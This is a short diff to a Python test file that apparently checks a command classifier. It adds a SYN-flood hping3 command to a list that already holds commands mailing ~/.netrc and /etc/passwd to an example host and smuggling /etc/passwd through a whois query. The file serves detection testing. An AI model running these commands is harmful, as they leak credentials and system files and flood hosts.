@@ -5,6 +5,7 @@ import pytest
 from tests.support.commands import facts_of
 
 HITS = [
+    ("hping3 --flood -S h", "exhausts"),
     ("mail -a ~/.netrc me@x.example", "sends-secret"),
     ("mail me@x.example < /etc/passwd", "sends-file"),
     ('whois -h x.example "$(cat /etc/passwd)"', "sends-file"),
